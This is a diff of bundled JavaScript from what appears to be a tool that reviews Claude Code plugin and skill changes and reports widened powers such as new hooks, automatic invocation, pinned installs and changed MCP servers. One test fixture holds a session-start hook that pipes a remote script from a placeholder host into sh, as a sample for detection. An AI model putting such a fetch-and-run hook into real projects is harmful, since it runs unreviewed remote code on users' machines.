 	howToFix: "Read the command. Keep the hook if everybody who works in this repository, or installs the plugin, is to run it; otherwise remove it.",
 	claims: ({ power, previous }) => power.feature === "hook" && !["guard", "secret"].includes(power.kind) && previous === null,
-	message: gainMessage,
+	message: hookMessage,
 	invalid: pluginFile("hooks/hooks.json", null, hookAt("SessionStart", "curl -s https://x.example/i | sh")),
 	valid: pluginFile("hooks/hooks.json", hookAt("SessionStart", "./start.sh"), hookAt("SessionStart", "./start.sh", ", \"timeout\": 5"))
 });
+function hookMessage({ power, hooks }) {
+	const block = mayBlock(power, hooks?.head ?? []) ? ` It may block ${blockedWords(power.trigger)}.` : "";
+	return `${ownerOf$1(power)} has a new ${code$1(power.subject)} hook: it ${describePower(power)}.${block}`;
+}
+function mayBlock(power, hooks) {
+	const matcherOf = ({ trigger: { matcher } }) => canonical(matcher?.names ?? matcher?.text ?? "");
+	const alike = hooks.filter((other) => matcherOf(other) === matcherOf(power));
+	return alike.filter(({ kind }) => kind !== "guard" && kind !== "secret").length === 1 && alike.some(({ kind }) => kind === "guard");
+}
 // src/rules/power/hook-changed.ts
 const hookChanged = powerRule({
 	id: "hook-changed",
@@ -31764,10 +31886,28 @@ const implicitInvocationEnabled = powerRule({
 	source: "Claude Code documentation, skills.",
 	howToFix: "Restore the limit where the skill has effects that a user is to ask for.",
 	claims: ({ power }) => power.feature === "invocation" && power.kind === "auto",
-	message: gainMessage,
+	message: invocationMessage,
 	invalid: skill$1("before/", "\ndisable-model-invocation: true") + skill$1("after/", ""),
 	valid: skill$1("before/", "\ndisable-model-invocation: true") + skill$1("after/", "\ndisable-model-invocation: true\nuser-invocable: true")
 });
+function invocationMessage(change) {
+	const { power, previous, limit } = change;
+	if (previous) return filesMessage(change);
+	const cause = limit ? `: ${code$1(limit.key.text)} ${limit.now === null ? "was removed" : `is now ${code$1(limit.now)}`}` : "";
+	return `${startWords(power)}${cause}.`;
+}
+function startWords(power) {
+	const unit = unitPhrase(power);
+	if (power.subject === "user") return `Users may now start ${unit} by its name`;
+	return `${power.subject === "Codex" ? "Codex" : "The model"} may now ${power.unit.kind === "skill" ? "load" : "start"} ${unit} by itself, without a request of the user`;
+}
+function filesMessage(change) {
+	const { power, previous } = change;
+	const before = previous?.trigger.matcher;
+	if (power.subject !== "model" || !before) return gainMessage(change);
+	const files = power.trigger.matcher ? code$1(power.trigger.matcher.text) : "any file";
+	return `The model may now load ${unitPhrase(power)} by itself for ${files}; at base only for ${code$1(before.text)} (${code$1("paths")}).`;
+}
 // src/rules/power/install-added.ts
 const installAdded = powerRule({
 	id: "install-added",
@@ -31777,12 +31917,25 @@ const installAdded = powerRule({
 	source: "Claude Code documentation, plugin marketplaces.",
 	howToFix: "Read the source at the pinned revision before you offer it to users.",
 	claims: ({ power, previous }) => power.kind === "install" && isPinned(power) && (power.feature === "package" || power.feature === "source" && previous === null),
-	message: gainMessage,
+	message: installMessage,
 	invalid: marketplaceEntry("", "{\"name\": \"p\", \"source\": {\"source\": \"npm\", \"package\": \"@acme/p\", \"version\": \"1.2.3\"}}"),
 	valid: marketplaceEntry("{\"name\": \"p\", \"source\": {\"source\": \"npm\", \"package\": \"@acme/p\", \"version\": \"1.2.3\"}}", "{\"name\": \"p\", \"source\": {\"version\": \"1.2.3\", \"source\": \"npm\", \"package\": \"@acme/p\"}}")
 });
 function isPinned({ pin }) {
 	return pin?.level === "digest" || pin?.level === "exact";
+}
+function installMessage(change) {
+	const { power, previous, isSameCommand } = change;
+	const { subject, scope, feature, trigger } = power;
+	if (isSameCommand) return gainMessage(change);
+	const place = codeInOneLine(scope);
+	const before = previous ? `; at base ${codeInOneLine(previous.scope)}` : "";
+	if (feature === "package") return `Clients that install ${unitPhrase(power)} now ${previous ? "" : "also "}install ${place}${before}.`;
+	const [, kind, name = ""] = /^(marketplace|plugin|package) (.*)$/s.exec(subject) ?? [];
+	if (kind === void 0) return gainMessage(change);
+	if (/(?:^|\/)marketplace\.json$/.test(power.at.path)) return `Users who install the ${kind} ${quote(name)} from this marketplace now get it from ${place}, at each installation and update.`;
+	const when = trigger.start === "session" ? "at every session start" : "at every installation or update";
+	return `Clients that use ${unitPhrase(power)} now download the ${kind} ${quote(name)} from ${place} ${when}.`;
 }
 // src/rules/words/source-message.ts
 function sourceMessage(change) {
@@ -31850,10 +32003,37 @@ const mcpServerChanged = powerRule({
 	source: "Claude Code documentation, plugins.",
 	howToFix: "Check the new program or address; keep the change if users are to use it.",
 	claims: ({ power, previous }) => power.feature === "mcp-server" && power.kind === "mcp" && previous !== null,
-	message: gainMessage,
+	message: serverMessage,
 	invalid: pluginFile(".mcp.json", server("docs", "{\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}"), server("docs", "{\"type\": \"http\", \"url\": \"http://docs.example/mcp\"}")),
 	valid: pluginFile(".mcp.json", server("docs", "{\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}"), server("docs", "{\"url\": \"https://DOCS.example/mcp\", \"type\": \"http\"}"))
 });
+function serverMessage(change) {
+	const { power, previous, isSameCommand } = change;
+	const [, name] = /^server (.+)$/s.exec(power.subject) ?? [];
+	if (!previous || isSameCommand || power.scope === previous.scope || name === void 0) return gainMessage(change);
+	const server = `The MCP server ${quote(name)} of ${unitPhrase(power)}`;
+	const [before, after] = [previous, power].map(connection);
+	const difference = isRemote(power) === isRemote(previous) ? differenceOf(change) : "changed";
+	const unencrypted = isUnencrypted(power) && !isUnencrypted(previous) ? " The new connection is not encrypted." : "";
+	return `${server} ${difference}: clients now ${after}${remarkSuffix(power)}; at base they ${before}.${unencrypted}`;
+}
+function isRemote({ scope }) {
+	return /^(?:https?|wss?):\/\//.test(scope);
+}
+function isUnencrypted({ scope }) {
+	return /^(?:http|ws):\/\//.test(scope);
+}
+function connection(power) {
+	return `${isRemote(power) ? "connect to" : "start"} ${codeInOneLine(power.scope)}`;
+}
+function differenceOf({ power, previous }) {
+	if (isRemote(power)) return "has another address";
+	const [before = [], after = []] = [previous, power].map((side) => side?.scope.split(/\s+/));
+	if (before[0] !== after[0]) return "is another program";
+	const [removed, added] = [before.filter((word) => !after.includes(word)), after.filter((word) => !before.includes(word))].map((words) => words?.length === 1 ? codeInOneLine(words[0] ?? "") : "");
+	if (added && removed) return `has the argument ${added} instead of ${removed}`;
+	return "has other arguments";
+}
 // src/rules/power/permission-mode-raised.ts
 const permissionModeRaised = powerRule({
 	id: "permission-mode-raised",
@@ -34782,7 +34962,7 @@ const foldersOf = perWorkspace(({ paths, listings: { externalPaths } }) => {
 });
 function relativePath(base, path) {
 	if (path === base) return "./";
-	return isInside$1(path, base) ? join$1(".", path.slice(base === "" ? 0 : base.length + 1)) : void 0;
+	return isInside$2(path, base) ? join$1(".", path.slice(base === "" ? 0 : base.length + 1)) : void 0;
 }
 function isSkillFile(path) {
 	return nameOf$3(path).toLowerCase() === "skill.md";
@@ -35062,7 +35242,7 @@ function firstExisting(exists, paths) {
 	return paths.find((path) => path !== void 0 && path !== "" && exists(path));
 }
 function onlyPathIn(root, paths) {
-	const within = paths.filter((path) => isInside$1(path, root));
+	const within = paths.filter((path) => isInside$2(path, root));
 	return within.length === 1 ? within[0] : void 0;
 }
 function similarSibling({ workspace, budget }, target) {
@@ -38832,7 +39012,7 @@ function unlistedSkillMessage({ root, name }, { marketplace, namedIn }) {
 function unlistedPluginMessage({ root }, offer, workspace) {
 	const { marketplace, plugins, pluginIn } = offer;
 	const pluginRoot = pluginFolder(root);
-	if (pluginRoot === "" || plugins.has(pluginRoot) || !isInside$1(pluginRoot, marketplace.root)) return null;
+	if (pluginRoot === "" || plugins.has(pluginRoot) || !isInside$2(pluginRoot, marketplace.root)) return null;
 	const other = pluginIn.get(folderOf(pluginRoot));
 	if (other === void 0) return null;
 	if (!manifestFolders(workspace).has(pluginRoot) && folderOf(other) === marketplace.root) return null;
@@ -42571,6 +42751,7 @@ function grantFile({ file, id, text, result }, units) {
 			isReportedElsewhere: fault.isUnreadable
 		})) : result.faults,
 		unread: result.unread,
+		invocationKeys: result.invocationKeys ?? [],
 		isUnreadable: result.faults.some(({ isUnreadable }) => isUnreadable),
 		readLeaves: () => readLeaves(file, text ?? "")
 	};
@@ -45372,7 +45553,7 @@ function pairUnits(base, head, skillRoots) {
 }
 function pathInHead({ path, unit }, to) {
 	if (path === unit.root) return to.root;
-	return isInside$1(path, unit.root) ? join$1(to.root, relativePath$2(unit.root, path)) : path;
+	return isInside$2(path, unit.root) ? join$1(to.root, relativePath$2(unit.root, path)) : path;
 }
 function candidatesOf({ units, files }) {
 	const filesByUnit = groupBy(files, ({ unit }) => unitKey(unit));
@@ -45817,7 +45998,7 @@ function effectIn(file, { listedAs }) {
 	return fileEffect(file, listedAs, "name");
 }
 function nameIn({ root }, { path }) {
-	return isInside$1(path, root) ? relativePath$2(root, path) : path;
+	return isInside$2(path, root) ? relativePath$2(root, path) : path;
 }
 // src/pipeline/report.ts
 function createReport(run, settings, { only = [], reportsCatalogue = false, reportsUnitChanges = false }) {
@@ -46146,7 +46327,7 @@ async function readConfigAt(tree, configPath, rules) {
 }
 function rejectNonFile(entries, configPath) {
 	const isLink = entries.some(({ path, kind }) => path === configPath && kind === "symlink");
-	const isFolder = entries.some(({ path }) => isInside$1(path, configPath));
+	const isFolder = entries.some(({ path }) => isInside$2(path, configPath));
 	if (!isLink && !isFolder) return;
 	throw new UsageError(`The configuration "${configPath}" is a ${isLink ? "symbolic link" : "directory"}, not a file.`, isLink ? "Replace the link with the file." : "Rename the directory.");
 }
@@ -49267,7 +49448,7 @@ function withArguments(config, { values, flags }) {
 const runOptions = [
 	{
 		name: "preconditions",
-		help: "check that this machine has what skills need; runs COMMAND --version if a skill has a bound"
+		help: "check this machine too; may run COMMAND --version"
 	},
 	{
 		name: "shard",
@@ -49486,4 +49667,4 @@ async function chooseCommand(argv, { cwd }) {
 		args: [...argv]
 	};
 }
-export { restrictToPaths as $, shellPath as $a, items as $i, twoOperations as $n, neutralizeCommands as $o, modeVariant as $r, marketplaceSkillUnlisted as $t, errorLine as A, table$3 as Aa, findCarrier as Ai, everything as An, linksFrom as Ao, formatList as Ar, updateClause as At, requireSkills as B, padTo as Ba, foreignHeader as Bi, moduleText as Bn, isLowerLevel as Bo, transitionSuffix as Br, nothingKnown as Bt, remoteUrl as C, entryOf$3 as Ca, filesByRoot as Ci, bottom as Cn, truncate as Co, describeDescription as Cr, partClause as Ct, lstatSafely as D, formatCount as Da, renamePlaceholders as Di, literals as Dn, compareText as Do, describeValueChange as Dr, powerSeverity as Dt, diskPath as E, code as Ea, placeholdersIn as Ei, top as En, LineMap as Eo, describeSkill as Er, matches as Et, killGroup as F, findingBlocks as Fa, canonical as Fi, divides as Fn, unitKey as Fo, newName as Fr, levelOf as Ft, check$1 as G, changePhrase as Ga, parseYaml as Gi, hasLimits as Gn, ruleLevelValue as Go, isObject as Gr, byId as Gt, protosByName as H, painter as Ha, duplicateKey$3 as Hi, codeIndex as Hn, scopes as Ho, formatTransition as Hr, repositorySource as Ht, trackChild as I, permissionList as Ia, formatForFile as Ii, conjunction as In, unitKinds as Io, operationName as Ir, trustedConfigDecides as It, shippingUnits as J, markdownMarkup as Ja, require_packages as Ji, blockOf as Jn, statUserPath as Jo, uncoveredFiles as Jr, treeRules as Jt, summarize as K, sampleFolderOf as Ka, isDigestIndex as Ki, isDefinedEffect as Kn, didYouMean as Ko, facetValue as Kr, getProblemRule as Kt, loadTipConfig as L, formatColumns as La, dividePlainLock as Li, negation as Ln, memoize as Lo, pathTransition as Lr, analyse as Lt, runGit as M, text$2 as Ma, unquotedColonIn as Mi, union as Mn, aboutPower as Mo, formatText as Mr, redactCredentials as Mt, splitNulTerminated as N, versionChange as Na, isSecretName as Ni, word as Nn, isWidening as No, itemName as Nr, messageValues as Nt, readFile as O, formatNumber as Oa, replaceVariables as Oi, singleCharacter as On, inBaseOnly as Oo, entrypointName as Or, requirementOf as Ot, killChildren as P, changeLines as Pa, plainLine$1 as Pi, commonMultiple as Pn, pinLevels as Po, keywordTransition as Pr, findingSettings as Pt, withCommonIgnores as Q, tableCell as Qa, get as Qi, twoBodies as Qn, jsonText$1 as Qo, verifyEntry as Qr, twoManifests as Qt, readConfig as R, formatEntries as Ra, lockFormatOf as Ri, createBudget as Rn, gateOptions as Ro, pluralize as Rr, analyseAll as Rt, readGitSettings as S, catalogueVerdict as Sa, discover as Si, isSelfContained as Sn, quoteWhole as So, changedEntries as Sr, readAll as St, folderTree as T, searchBox as Ta, builtInPlaceholders as Ti, kinds$2 as Tn, severityRank as To, describeNestedDefault as Tr, settingLocation as Tt, skillsOfProto as U, defaultRenderOptions as Ua, leaksHome as Ui, describeEffect as Un, nearPath$1 as Uo, differencesOf$1 as Ur, ruleDraft as Ut, compareEntries as V, textColumns as Va, protoLock as Vi, planModuleText as Vn, policyKeyNames as Vo, valueTransition as Vr, problemDraft as Vt, withProto as W, changeMarks as Wa, sanitizePaths as Wi, effects as Wn, globalOptions as Wo, listDifference as Wr, sourceOf as Wt, pathInHead as X, nameText as Xa, fields$1 as Xi, routerOf as Xn, escapeInvisible as Xo, isOffByDefault as Xr, dedent as Xt, pairUnits as Y, codeSpan as Ya, asWritten as Yi, operationOf as Yn, withUsageErrors as Yo, changeRule as Yr, maxBump as Yt, versionTuple as Z, prose$1 as Za, formatPointer as Zi, twoBlocks as Zn, jsonLine as Zo, describeUnhashed as Zr, twoFrontmatters as Zt, listedTree as _, pageText as _a, readOutputSettings as _i, membersOf as _n, code$1 as _o, semanticRequirements as _r, readTexts as _t, open as a, contentHash as aa, defaults$1 as ai, applyEdits as an, abbreviateUnique as ao, formatVersionKey as ar, join$1 as as, doubtsOf as at, commitsOf$1 as b, inline$1 as ba, pathWithin$1 as bi, groupOf as bn, joinWithOr as bo, lockHome as br, blobId as bt, treePaths as c, manifestOf as ca, unlimitedPolicy as ci, fallbackLocation as cn, countPhrase as co, hasDefault as cr, resolve$1 as cs, relatePaths as ct, openSides as d, findingJson as da, coversCommand as di, nameLocation as dn, versionShortfall as do, isFullyDeclared as dr, releaseTag as ds, readSkill as dt, parsePointer as ea, algorithmNamed as ei, describeManifest as en, catalogueInNaturalOrder as eo, compareDotted as er, decodePath as es, catalogueOf as et, defaultBranches as f, json as fa, isPlainCommand as fi, createSkillLookup as fn, declaredBump as fo, isFullyDeclaredOnBothSides as fr, tool as fs, parseSkillToml as ft, gitTree as g, rulesSection as ga, repositoryOptions as gi, lengthOf as gn, clip as go, leavesLegacyManifest as gr, maxTextBytes as gt, tempNameOf as h, maxPageBytes as ha, isDay as hi, evaluateSchema as hn, require_compare as ho, isRequired$1 as hr, digestFiles as ht, runCheck as i, toJson as ia, previousSkillsByRoot as ii, migratedBlock as in, isOutdatedEntry as io, formatVersionBump as ir, isInside$1 as is, effectivePolicies as it, readGit as j, firstWithin as ja, parseSkillMd as ji, hasCodePoint as jn, groupBy as jo, formatOrNone as jr, toFindings as jt, LineEndings as k, element as ka, variablesIn as ki, complement as kn, withPath as ko, fileNames as kr, originInFrontmatter as kt, withProgress as l, unreadSubmodules as la, compareTools as li, keywordLocation as ln, isChanged as lo, isAboutKeyword as lr, selfAndAncestors as ls, load as lt, removeStaleTempFiles as m, powerJson as ma, levels$1 as mi, lockPathOf as mn, smallestCoveringVersion as mo, isOptional as mr, leavesBeyond as mt, main as n, source as na, createIgnoreTest as ni, dialects as nn, permissionClause as no, baseDirectoryOf as nr, folderOf as ns, relate as nt, pathInDirectory as o, filesDiffer as oa, mapKeys as oi, editsOverlap as on, compareNatural as oo, hasAllowedTools as or, nameOf$3 as os, powerTexts as ot, isRunning as p, powerChangeJson as pa, prefixesOf as pi, lockedTargets as pn, isVersion$1 as po, isHarmless as pr, parsedOnAccess as pt, bumpOf as q, testFolderOf as qa, parseJson as qi, parseRange as qn, readUserPath as qo, isSet as qr, powerRules as qt, openRun as r, text$1 as ra, hashVariants as ri, migrationObstacle as rn, unitPermissionRows as ro, createFlagChangeTest as rr, isAtOrInside as rs, parseVersionTag as rt, ruleIds as s, isManifestName as sa, noConfigFiles as si, markCopies as sn, sortNaturally as so, hasApiVersion as sr, relativePath$2 as ss, loadAnalysed as st, internalErrorText as t, resolvePointer as ta, selectFiles as ti, describePart as tn, inNaturalOrder as to, adr002 as tr, encodePath as ts, statedContract as tt, withReadProgress as u, versionLocation as ua, compareEntries$1 as ui, manifestLocation$1 as un, sideVersion as uo, isBundled as ur, UsageError as us, readManifests as ut, readBlobs as v, matrixSection as va, renderOptions as vi, readSchema as vn, formatNames as vo, installFolders as vr, readLinkTargets as vt, diskTree as w, placeLink as wa, matcher as wi, kindOf$1 as wn, isAtLeast as wo, describeItem as wr, keyLocation as wt, findRepository as x, catalogueSection as xa, relativePathsFrom as xi, isAnnotation as xn, quote as xo, acceptedWitness as xr, memoryTree as xt, commitOf as y, findingList as ya, writeOutputs as yi, withoutReferences as yn, joinFirst as yo, installLocation as yr, areSameSubmodules as yt, ignoredSentences as z, wrap as za, parseLock as zi, spend as zn, failLevels as zo, rejectedWitness as zr, joinKnown as zt };
+export { restrictToPaths as $, shellPath as $a, items as $i, twoOperations as $n, neutralizeCommands as $o, modeVariant as $r, marketplaceSkillUnlisted as $t, errorLine as A, table$3 as Aa, findCarrier as Ai, everything as An, linksFrom as Ao, formatList as Ar, updateClause as At, requireSkills as B, padTo as Ba, foreignHeader as Bi, moduleText as Bn, isLowerLevel as Bo, transitionSuffix as Br, nothingKnown as Bt, remoteUrl as C, entryOf$3 as Ca, filesByRoot as Ci, bottom as Cn, truncate as Co, describeDescription as Cr, partClause as Ct, lstatSafely as D, formatCount as Da, renamePlaceholders as Di, literals as Dn, compareText as Do, describeValueChange as Dr, powerSeverity as Dt, diskPath as E, code as Ea, placeholdersIn as Ei, top as En, LineMap as Eo, describeSkill as Er, matches as Et, killGroup as F, findingBlocks as Fa, canonical as Fi, divides as Fn, unitKey as Fo, newName as Fr, levelOf as Ft, check$1 as G, changePhrase as Ga, parseYaml as Gi, hasLimits as Gn, ruleLevelValue as Go, isObject as Gr, byId as Gt, protosByName as H, painter as Ha, duplicateKey$3 as Hi, codeIndex as Hn, scopes as Ho, formatTransition as Hr, repositorySource as Ht, trackChild as I, permissionList as Ia, formatForFile as Ii, conjunction as In, unitKinds as Io, operationName as Ir, trustedConfigDecides as It, shippingUnits as J, markdownMarkup as Ja, require_packages as Ji, blockOf as Jn, statUserPath as Jo, uncoveredFiles as Jr, treeRules as Jt, summarize as K, sampleFolderOf as Ka, isDigestIndex as Ki, isDefinedEffect as Kn, didYouMean as Ko, facetValue as Kr, getProblemRule as Kt, loadTipConfig as L, formatColumns as La, dividePlainLock as Li, negation as Ln, memoize as Lo, pathTransition as Lr, analyse as Lt, runGit as M, text$2 as Ma, unquotedColonIn as Mi, union as Mn, aboutPower as Mo, formatText as Mr, redactCredentials as Mt, splitNulTerminated as N, versionChange as Na, isSecretName as Ni, word as Nn, isWidening as No, itemName as Nr, messageValues as Nt, readFile as O, formatNumber as Oa, replaceVariables as Oi, singleCharacter as On, inBaseOnly as Oo, entrypointName as Or, requirementOf as Ot, killChildren as P, changeLines as Pa, plainLine$1 as Pi, commonMultiple as Pn, pinLevels as Po, keywordTransition as Pr, findingSettings as Pt, withCommonIgnores as Q, tableCell as Qa, get as Qi, twoBodies as Qn, jsonText$1 as Qo, verifyEntry as Qr, twoManifests as Qt, readConfig as R, formatEntries as Ra, lockFormatOf as Ri, createBudget as Rn, gateOptions as Ro, pluralize as Rr, analyseAll as Rt, readGitSettings as S, catalogueVerdict as Sa, discover as Si, isSelfContained as Sn, quoteWhole as So, changedEntries as Sr, readAll as St, folderTree as T, searchBox as Ta, builtInPlaceholders as Ti, kinds$2 as Tn, severityRank as To, describeNestedDefault as Tr, settingLocation as Tt, skillsOfProto as U, defaultRenderOptions as Ua, leaksHome as Ui, describeEffect as Un, nearPath$1 as Uo, differencesOf$1 as Ur, ruleDraft as Ut, compareEntries as V, textColumns as Va, protoLock as Vi, planModuleText as Vn, policyKeyNames as Vo, valueTransition as Vr, problemDraft as Vt, withProto as W, changeMarks as Wa, sanitizePaths as Wi, effects as Wn, globalOptions as Wo, listDifference as Wr, sourceOf as Wt, pathInHead as X, nameText as Xa, fields$1 as Xi, routerOf as Xn, escapeInvisible as Xo, isOffByDefault as Xr, dedent as Xt, pairUnits as Y, codeSpan as Ya, asWritten as Yi, operationOf as Yn, withUsageErrors as Yo, changeRule as Yr, maxBump as Yt, versionTuple as Z, prose$1 as Za, formatPointer as Zi, twoBlocks as Zn, jsonLine as Zo, describeUnhashed as Zr, twoFrontmatters as Zt, listedTree as _, pageText as _a, readOutputSettings as _i, membersOf as _n, code$1 as _o, semanticRequirements as _r, readTexts as _t, open as a, contentHash as aa, defaults$1 as ai, applyEdits as an, abbreviateUnique as ao, formatVersionKey as ar, join$1 as as, doubtsOf as at, commitsOf$1 as b, inline$1 as ba, pathWithin$1 as bi, groupOf as bn, joinWithOr as bo, lockHome as br, blobId as bt, treePaths as c, manifestOf as ca, unlimitedPolicy as ci, fallbackLocation as cn, countPhrase as co, hasDefault as cr, resolve$1 as cs, relatePaths as ct, openSides as d, findingJson as da, coversCommand as di, nameLocation as dn, versionShortfall as do, isFullyDeclared as dr, releaseTag as ds, readSkill as dt, parsePointer as ea, algorithmNamed as ei, describeManifest as en, catalogueInNaturalOrder as eo, compareDotted as er, decodePath as es, catalogueOf as et, defaultBranches as f, json as fa, isPlainCommand as fi, createSkillLookup as fn, declaredBump as fo, isFullyDeclaredOnBothSides as fr, tool as fs, parseSkillToml as ft, gitTree as g, rulesSection as ga, repositoryOptions as gi, lengthOf as gn, clip as go, leavesLegacyManifest as gr, maxTextBytes as gt, tempNameOf as h, maxPageBytes as ha, isDay as hi, evaluateSchema as hn, require_compare as ho, isRequired$1 as hr, digestFiles as ht, runCheck as i, toJson as ia, previousSkillsByRoot as ii, migratedBlock as in, isOutdatedEntry as io, formatVersionBump as ir, isInside$2 as is, effectivePolicies as it, readGit as j, firstWithin as ja, parseSkillMd as ji, hasCodePoint as jn, groupBy as jo, formatOrNone as jr, toFindings as jt, LineEndings as k, element as ka, variablesIn as ki, complement as kn, withPath as ko, fileNames as kr, originInFrontmatter as kt, withProgress as l, unreadSubmodules as la, compareTools as li, keywordLocation as ln, isChanged as lo, isAboutKeyword as lr, selfAndAncestors as ls, load as lt, removeStaleTempFiles as m, powerJson as ma, levels$1 as mi, lockPathOf as mn, smallestCoveringVersion as mo, isOptional as mr, leavesBeyond as mt, main as n, source as na, createIgnoreTest as ni, dialects as nn, permissionClause as no, baseDirectoryOf as nr, folderOf as ns, relate as nt, pathInDirectory as o, filesDiffer as oa, mapKeys as oi, editsOverlap as on, compareNatural as oo, hasAllowedTools as or, nameOf$3 as os, powerTexts as ot, isRunning as p, powerChangeJson as pa, prefixesOf as pi, lockedTargets as pn, isVersion$1 as po, isHarmless as pr, parsedOnAccess as pt, bumpOf as q, testFolderOf as qa, parseJson as qi, parseRange as qn, readUserPath as qo, isSet as qr, powerRules as qt, openRun as r, text$1 as ra, hashVariants as ri, migrationObstacle as rn, unitPermissionRows as ro, createFlagChangeTest as rr, isAtOrInside as rs, parseVersionTag as rt, ruleIds as s, isManifestName as sa, noConfigFiles as si, markCopies as sn, sortNaturally as so, hasApiVersion as sr, relativePath$2 as ss, loadAnalysed as st, internalErrorText as t, resolvePointer as ta, selectFiles as ti, describePart as tn, inNaturalOrder as to, adr002 as tr, encodePath as ts, statedContract as tt, withReadProgress as u, versionLocation as ua, compareEntries$1 as ui, manifestLocation$1 as un, sideVersion as uo, isBundled as ur, UsageError as us, readManifests as ut, readBlobs as v, matrixSection as va, renderOptions as vi, readSchema as vn, formatNames as vo, installFolders as vr, readLinkTargets as vt, diskTree as w, placeLink as wa, matcher as wi, kindOf$1 as wn, isAtLeast as wo, describeItem as wr, keyLocation as wt, findRepository as x, catalogueSection as xa, relativePathsFrom as xi, isAnnotation as xn, quote as xo, acceptedWitness as xr, memoryTree as xt, commitOf as y, findingList as ya, writeOutputs as yi, withoutReferences as yn, joinFirst as yo, installLocation as yr, areSameSubmodules as yt, ignoredSentences as z, wrap as za, parseLock as zi, spend as zn, failLevels as zo, rejectedWitness as zr, joinKnown as zt };
